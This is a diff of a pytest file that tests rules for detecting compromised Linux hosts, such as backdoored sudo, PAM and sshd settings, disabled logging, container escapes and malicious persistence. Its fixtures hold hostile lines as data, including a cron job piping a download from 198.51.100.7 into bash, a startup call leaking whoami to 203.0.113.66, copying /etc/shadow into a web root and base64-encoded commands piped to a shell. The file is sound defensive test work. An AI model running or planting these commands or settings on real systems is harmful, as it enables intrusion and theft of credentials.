@@ -111,6 +111,34 @@ def setting(path, value):
     return {"kernel_settings": [{"path": path, "value": value}]}
 
 
+def set_to(kind, *rows, path="/etc/x"):
+    return {"settings": [{"kind": kind, "path": path, "line": 1, "name": name, "value": value} for name, value in rows]}
+
+
+def unit(name, **facts):
+    return {"services": [{"unit": name, "active": "active", **facts}]}
+
+
+def member(group, *members):
+    return {"groups": [{"source": "group", "file": "/etc/group", "line": 5, "group": group, "members": list(members)}]}
+
+
+def connected(exe, **facts):
+    """A process whose input and output are one connection."""
+    return {**processes({"exe": exe, **facts}),
+            "open_files": [{"pid": 42, "fd": fd, "type": "socket", "inode": 7} for fd in (0, 1, 2)],
+            "sockets": [{"family": "inet", "protocol": "tcp", "state": "established", "inode": 7, "local_address": "192.0.2.1", "local_port": 50000,
+                         "remote_address": "198.51.100.7", "remote_port": 443}]}
+
+
+def emptied(path="/var/log/auth.log", mtime=NEWER, *more):
+    return files({"path": path, "size": 0, "btime": OLD, "mtime": mtime}, *more)
+
+
+FIREWALL = {**unit("nftables.service", enabled=True), **set_to("firewall_file", ("rule", "tcp dport 22 accept"), path="/etc/nftables.conf"),
+            "items": [{"collector": "live_state", "path": "x", "state": "collected", "archived": "live/commands/nft-ruleset.txt"}]}
+
+
 # Rule -> what it must find, what it must not find.
 CASES = {
     "hidden-process": (view("D1"), view("D12", "taint of the kernel")),
@@ -304,7 +332,8 @@ CASES = {
     ),
     "persistence-evil-command": (
         starts({"mechanism": "cron", "command": "curl -s http://198.51.100.7/x | bash", "executable": "/usr/bin/curl"}),
-        starts({"mechanism": "cron", "command": "wget -qO /dev/null https://example.org/cron.php", "executable": "/usr/bin/wget"}),
+        starts({"mechanism": "cron", "command": "wget -qO /dev/null https://example.org/cron.php", "executable": "/usr/bin/wget"},
+               {"mechanism": "cron", "command": "bash -c 'base64 -d /srv/x > /srv/y'"}),
     ),
     "persistence-preload": (
         starts({"mechanism": "ld_preload", "command": "/lib/evil.so", "path": "/etc/ld.so.preload"}),
@@ -343,7 +372,8 @@ CASES = {
     ),
     "persistence-target-missing": (
         starts({"mechanism": "cron", "executable": "/home/gone/run.sh", "exists": False}),
-        starts({"mechanism": "cron", "executable": "/usr/bin/gone", "exists": False}),
+        starts({"mechanism": "cron", "executable": "/usr/bin/gone", "exists": False},
+               {"mechanism": "shell_startup", "command": "[ -f ~/.fzf.bash ] && . ~/.fzf.bash", "executable": "/home/u/.fzf.bash", "exists": False}),
     ),
     "webshell": (hit(90), hit(60)),
     "webshell-likely": (hit(50), hit(90)),
@@ -360,7 +390,11 @@ CASES = {
     ),
     "program-content-in-drop-zone": (web_file("/tmp/x", zone="tmp", magic="elf"), web_file("/var/www/html/x", magic="elf")),
     "file-in-dev": (files({"path": "/dev/.x"}), files({"path": "/dev/shm/x"}, {"path": "/dev/null", "type": "char"})),
-    "odd-file-name": (files({"path": "/tmp/.. /x"}, {"path": "/etc/..."}), files({"path": "/home/u/my file "}, {"path": "/etc/x.conf"})),
+    "odd-file-name": (
+        files({"path": "/tmp/.. /x"}, {"path": "/etc/..."}),
+        files({"path": "/home/u/my file "}, {"path": "/etc/x.conf"}, {"path": "/var/lib/x/a name /y"}, {"path": "/usr/share/ca/F\u0151tan\u00fas.crt"},
+              {"path": "/etc/systemd/system/dev-disk\\\\x0a.mount"}, {"path": "/opt/x\\xe9t\\xe9"}),
+    ),
     "hidden-in-drop-zone": (
         files({"path": "/dev/shm/.x", "type": "directory"}), files({"path": "/tmp/.X11-unix", "type": "directory"}, {"path": "/tmp/.x"}),
     ),
@@ -411,8 +445,170 @@ CASES = {
         {"log_events": [event("ssh_failed", "Failed password", n=3, time=OLD), event("ssh_login", "Accepted password for root"),
                         event("ssh_login", "Accepted publickey for root")]},
     ),
+    "sudo-for-service-account": (
+        set_to("sudo", ("www-data", "ALL=(ALL) NOPASSWD: ALL")),
+        set_to("sudo", ("root", "ALL=(ALL:ALL) ALL"), ("%sudo", "ALL=(ALL:ALL) ALL"), ("responder", "ALL=(ALL) NOPASSWD: ALL"),
+               ("ALL", "ALL=(ALL) ALL"), ("www-data", "ALL=(root) NOPASSWD: /usr/bin/systemctl reload ALLtogether"), ("Defaults:www-data", "!syslog")),
+    ),
+    "sudo-includes-elsewhere": (
+        set_to("sudo", ("@includedir", "/var/lib/.s")),
+        set_to("sudo", ("@includedir", "/etc/sudoers.d"), ("@include", "/etc/sudoers.local"), ("@includedir", "sudoers.d # x")),
+    ),
+    "sudo-weakened": (
+        set_to("sudo", ("Defaults", 'env_keep += "LD_PRELOAD"')),
+        set_to("sudo", ("Defaults:nagios", "!syslog"), ("Defaults", 'env_keep += "LANG http_proxy"'), ("Defaults", "env_reset"), ("Defaults", "!fqdn")),
+    ),
+    "sudo-gives-shell": (
+        set_to("sudo", ("deploy", "ALL=(root) NOPASSWD: /usr/bin/vim, /usr/bin/id")),
+        set_to("sudo", ("deploy", "ALL=(root) NOPASSWD: /usr/bin/systemctl restart x, /usr/bin/tar xf /srv/x.tar"), ("alice", "ALL=(ALL) NOPASSWD: ALL"),
+               ("bob", "ALL=(root) /usr/bin/vim")),
+    ),
+    "service-account-in-admin-group": (member("sudo", "alice", "games"), {**member("sudo", "alice"), **member("ssl-cert", "www-data")}),
+    "suid-gives-shell": (
+        files({"path": "/usr/bin/find", "mode": "4755"}),
+        files({"path": "/usr/bin/find", "mode": "0755"}, {"path": "/usr/bin/sudo", "mode": "4755"}, {"path": "/usr/bin/wall", "mode": "2755"},
+              {"path": "/usr/bin/mount", "mode": "4755"}, {"path": "/usr/bin/bash", "mode": "4755", "uid": 1000}),
+    ),
+    "pam-lets-in": (
+        set_to("pam", ("auth", "sufficient pam_permit.so"), ("auth", "[success=done default=ignore] pam_succeed_if.so user = deploy")),
+        set_to("pam", ("auth", "required pam_permit.so"), ("session", "sufficient pam_permit.so"), ("auth", "sufficient pam_rootok.so"),
+               ("auth", "sufficient pam_succeed_if.so user ingroup nopasswdlogin"), ("auth", "[success=1 default=ignore] pam_unix.so nullok"),
+               ("auth", "requisite pam_succeed_if.so uid >= 1000 quiet")),
+    ),
+    "sshd-weakened": (
+        set_to("sshd", ("authorizedkeysfile", ".ssh/authorized_keys /etc/ssh/.k/%u")),
+        set_to("sshd", ("authorizedkeysfile", ".ssh/authorized_keys .ssh/authorized_keys2"), ("authorizedkeysfile", "/etc/ssh/authorized_keys/%u"),
+               ("authorizedkeysfile", "%h/.ssh/authorized_keys"), ("authorizedkeysfile", "/home/%u/.ssh/keys"), ("permitemptypasswords", "no"),
+               ("loglevel", "VERBOSE")),
+    ),
+    "defence-masked": (
+        {**unit("rsyslog.service", masked=True), **files({"path": "/usr/lib/systemd/system/rsyslog.service"})},
+        # Its package was removed; not a defence; not masked.
+        {"services": [{"unit": "auditd.service", "masked": True}, {"unit": "bluetooth.service", "masked": True}, {"unit": "rsyslog.service"}],
+         **files({"path": "/usr/lib/systemd/system/rsyslog.service"}, {"path": "/usr/lib/systemd/system/bluetooth.service"})},
+    ),
+    "journal-keeps-nothing": (set_to("journald", ("Storage", "none")), set_to("journald", ("Storage", "persistent"), ("Compress", "none"))),
+    "audit-switched-off": (set_to("audit", ("-e", "0")), set_to("audit", ("-e", "2"), ("-d", ""), ("-a", "never,task"))),
+    "security-names-redirected": (
+        set_to("hosts", ("0.0.0.0", "security.debian.org clamav.net")),
+        set_to("hosts", ("127.0.0.1", "localhost web01"), ("10.0.0.5", "deb.debian.org"), ("203.0.113.5", "shop.example.org # github.com"),
+               ("0.0.0.0", "ads.example.com")),
+    ),
+    "firewall-flushed": (
+        FIREWALL,
+        {**FIREWALL, "settings": FIREWALL["settings"] + set_to("firewall_live", ("rule", "tcp dport 22 accept"))["settings"]},
+    ),
+    "firewall-redirects-out": (
+        set_to("firewall_live", ("rule", "tcp dport 443 dnat to 203.0.113.66"), path="live/commands/nft-ruleset.txt"),
+        set_to("firewall_live", ("rule", "tcp dport 80 counter dnat to 172.17.0.2:80"), ("rule", "PREROUTING -j DNAT --to-destination 10.0.0.1"),
+               ("rule", "ip daddr 203.0.113.66 accept")),
+    ),
+    "log-emptied": (
+        emptied(),
+        # Rotated, with what was in it beside it; never written; and one that nobody knows.
+        emptied("/var/log/auth.log", NEW, {"path": "/var/log/auth.log.1", "btime": NEW}, {"path": "/var/log/btmp", "size": 0},
+                {"path": "/var/log/nginx/access.log", "size": 0, "btime": NEW, "mtime": OLD}, {"path": "/var/log/x.log", "size": 0, "btime": OLD}),
+    ),
+    "defences-off-history": (
+        typed("iptables -F"),
+        {"history": [{**typed("")["history"][0], "line": number, "command": command} for number, command in enumerate((
+            "iptables -L -n", "systemctl restart rsyslog", "systemctl status auditd", "ufw allow 22", "nft list ruleset", "git commit -m 'auditd'"))]},
+    ),
+    "cloud-credentials-taken": (
+        typed("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web"),
+        {**typed("curl -s http://169.254.169.254/latest/meta-data/instance-id"), **processes({"cmdline": ["kubectl", "--kubeconfig", "/etc/kubernetes/admin.conf"]})},
+    ),
+    "container-escape-typed": (
+        typed("docker run -v /:/h --privileged alpine chroot /h"),
+        {"history": [{**typed("")["history"][0], "line": number, "command": command} for number, command in enumerate((
+            "docker run -v /srv:/srv nginx", "docker run -d -v /:/host:ro prom/node-exporter", "nsenter -t 4242 -n ss -ltn", "docker run --privileged x"))]},
+    ),
+    "container-runtime-open": (
+        files({"path": "/run/docker.sock", "type": "socket", "mode": "0666"}),
+        {**files({"path": "/run/docker.sock", "type": "socket", "mode": "0660"}, {"path": "/run/systemd/notify", "type": "socket", "mode": "0777"}),
+         "sockets": [{"protocol": "tcp", "state": "listen", "local_port": 2375, "local_address": "127.0.0.1"},
+                     {"protocol": "tcp", "state": "established", "local_port": 2375, "local_address": "192.0.2.1"}],
+         "settings": [{"kind": "docker", "path": "/etc/docker/daemon.json", "name": name, "value": value} for name, value in (
+             ("hosts.0", "tcp://0.0.0.0:2376"), ("tlsverify", "true"), ("hosts.1", "unix:///var/run/docker.sock"))]},
+    ),
+    "container-runtime-hidden": (
+        set_to("docker", ("runtimes.x.path", "/var/lib/.s/runx")),
+        set_to("docker", ("runtimes.nvidia.path", "nvidia-container-runtime"), ("data-root", "/srv/docker")),
+    ),
+    "kubelet-open": (
+        set_to("kubelet", ("authentication.anonymous.enabled", "true")),
+        set_to("kubelet", ("authentication.anonymous.enabled", "false"), ("authorization.mode", "Webhook"), ("authentication.webhook.enabled", "true")),
+    ),
+    "static-pod-owns-host": (
+        set_to("pod", ("spec.hostPID", "true"), ("spec.volumes.0.hostPath.path", "/"), path="/etc/kubernetes/manifests/x.yaml"),
+        {"settings": [
+            *set_to("pod", ("spec.volumes.0.hostPath.path", "/etc/kubernetes/pki"), ("spec.hostNetwork", "true"), ("spec.containers.0.command.0", "etcd"),
+                    path="/etc/kubernetes/manifests/etcd.yaml")["settings"],
+            *set_to("pod", ("spec.volumes.0.hostPath.path", "/"), path="/etc/kubernetes/addons/x.yaml")["settings"]]},
+    ),
+    "tool-shadowed": (
+        files({"path": "/usr/local/sbin/ps"}, {"path": "/usr/bin/ps"}),
+        files({"path": "/usr/local/bin/git"}, {"path": "/usr/bin/git"}, {"path": "/usr/local/bin/ss"}),
+    ),
+    "alternative-elsewhere": (
+        files({"path": "/etc/alternatives/pager", "type": "link", "target": "/var/lib/.s/pager"}),
+        files({"path": "/etc/alternatives/pager", "type": "link", "target": "/usr/bin/less"},
+              {"path": "/etc/alternatives/java", "type": "link", "target": "/opt/jdk/bin/java"}),
+    ),
+    "program-on-connection": (connected("/var/lib/php/sessions/sess_q1 (deleted)", exe_deleted=True), connected("/usr/sbin/sshd")),
+    "startup-calls-address": (
+        starts({"mechanism": "shell_startup", "command": "curl -s http://203.0.113.66/$(whoami) >/dev/null"}),
+        starts({"mechanism": "cron", "command": "curl -fsS http://192.168.1.5/ping"}, {"mechanism": "cron", "command": "wget -q https://example.org/1.2.3.4x"},
+               {"mechanism": "cron", "command": "ping -c1 203.0.113.66"}, {"mechanism": "cron", "command": "curl http://203.0.113.66/", "package": "x"}),
+    ),
+    "command-wrapped": (
+        starts({"mechanism": "shell_startup", "command": "alias sudo='/home/deploy/.local/share/sudo'"}),
+        starts(*({"mechanism": "shell_startup", "command": command} for command in (
+            "alias sudo='sudo '", "alias su='su -'", "alias ssh='TERM=xterm ssh'", 'ssh() { command ssh -o X=Y "$@"; }', "alias ll='/usr/bin/ls'"))),
+    ),
+    "python-start-runs-code": (
+        starts({"mechanism": "python_startup", "command": "import os; os.system('id')"}),
+        starts({"mechanism": "python_startup", "command": "import _virtualenv"},
+               {"mechanism": "python_startup", "command": "import os, sys;exec('if os.environ.get(\"COV_CORE_SOURCE\"): pass')"},
+               {"mechanism": "python_startup", "command": "import socket", "package": "x"}),
+    ),
+    "module-load-runs-program": (
+        starts({"mechanism": "modprobe", "command": "/sbin/modprobe --ignore-install nfsd; /usr/local/bin/x"}),
+        starts({"mechanism": "modprobe", "command": "/bin/true"}, {"mechanism": "modprobe", "command": "/sbin/modprobe -i x && /sbin/sysctl -p"}),
+    ),
+    "php-prepends-script": (
+        starts({"mechanism": "web_config", "trigger": "PHP: auto_prepend_file", "command": "/usr/share/php/.p.php"}),
+        starts({"mechanism": "web_config", "trigger": "PHP: auto_prepend_file", "command": "/var/www/html/wordfence-waf.php"},
+               {"mechanism": "web_config", "trigger": "PHP: extension", "command": "x.so"}),
+    ),
+    "git-runs-odd-program": (
+        starts({"mechanism": "git", "executable": "/var/lib/.s/ssh"}),
+        starts({"mechanism": "git", "executable": "/srv/repo/.git/hooks/pre-push"}, {"mechanism": "git", "executable": "/srv/repo/.husky/pre-commit"},
+               {"mechanism": "git", "executable": "/usr/bin/less"}),
+    ),
+    "library-path-hidden": (
+        starts({"mechanism": "environment", "command": "LD_LIBRARY_PATH=/var/lib/.s"}),
+        starts({"mechanism": "systemd_service", "command": "LD_LIBRARY_PATH=/opt/app/lib"}, {"mechanism": "environment", "command": "PATH=/usr/bin:/root/.cargo/bin"},
+               {"mechanism": "cron", "command": "PATH=/usr/local/sbin:/usr/bin"}),
+    ),
+    "package-source-untrusted": (
+        set_to("apt_source", ("deb", "[trusted=yes] http://203.0.113.66/debian ./")),
+        set_to("apt_source", ("deb", "http://deb.debian.org/debian bookworm main"), ("deb", "[trusted=yes] file:/srv/repo ./"),
+               ("deb", "[signed-by=/usr/share/keyrings/x.gpg] https://192.168.1.5/debian stable main")),
+    ),
+    "startup-reads-secrets": (
+        starts({"mechanism": "systemd_service", "command": "/bin/cp /etc/shadow /var/www/html/.s"}),
+        starts({"mechanism": "cron", "command": "tar czf /srv/etc.tgz /etc"}, {"mechanism": "cron", "command": "rsync -e 'ssh -i /root/.ssh/id_backup' a b:"},
+               {"mechanism": "cron", "command": "cp /etc/shadow /var/backups/shadow.bak", "package": "passwd"}),
+    ),
+    "system-file-open": (
+        files({"path": "/etc/cron.d", "type": "directory", "mode": "0757"}, {"path": "/etc/shadow", "mode": "0660"}),
+        files({"path": "/etc/cron.d", "type": "directory", "mode": "0755"}, {"path": "/etc/shadow", "mode": "0640"}, {"path": "/etc/gshadow", "mode": "0000"},
+              {"path": "/var/spool/cron/crontabs", "type": "directory", "mode": "1730"}, {"path": "/etc/passwd", "mode": "0644"},
+              {"path": "/etc/systemd/system/x.service", "type": "link", "mode": "0777"}, {"path": "/etc/x/cache", "mode": "0666"}),
+    ),
     **{f"rare-{kind.replace('_', '-')}": (rare(kind, 1), {"stack": rare(kind, 2)["stack"] + rare(kind, 1, 2)["stack"]}) for kind in (
-        "authorized_key", "user", "suid", "kernel_module", "cron", "unit", "persistence", "executable", "listener", "package_file")},
+        "authorized_key", "user", "suid", "sudo", "kernel_module", "cron", "unit", "persistence", "executable", "listener", "package_file")},
 }
 
 
@@ -448,3 +644,19 @@ def test_rule(name, rules, case):
         assert row["summary"] and row["subject"]
         assert all(one.get("table") or one.get("member") for one in json.loads(row["evidence"]))
         assert json.loads(row["evidence"])
+
+
+@pytest.mark.parametrize("name", ["/var/lib/...", "/dev/shm/a\\x0ab", "/etc/ssl/\u00a0", "/opt/\\xe2\\x80\\xaetxt.exe", "/usr/lib/\\xff\\xfe", "/usr/share/man/.. "])
+def test_names_that_are_made_to_be_overlooked(name, rules, case):
+    for table in TABLES:
+        case.connection.execute(f"DELETE FROM {table}")
+    add_rows(case, "bad", files({"path": name}))
+    run_rule(case, rules["odd-file-name"])
+    assert case.rows("SELECT subject FROM findings") == [{"subject": name}]
+
+
+@pytest.mark.parametrize("command", [
+    '/bin/bash -c "$(echo Y3VybA== | base64 -d)" \\x0d#', "eval `echo aWQ= | base64 --decode`", "echo aWQ= | base64 -d | sh",
+])
+def test_commands_that_unpack_themselves(command, case):
+    assert case.connection.execute("SELECT is_evil_command(?)", [command]).fetchone() == (True,)
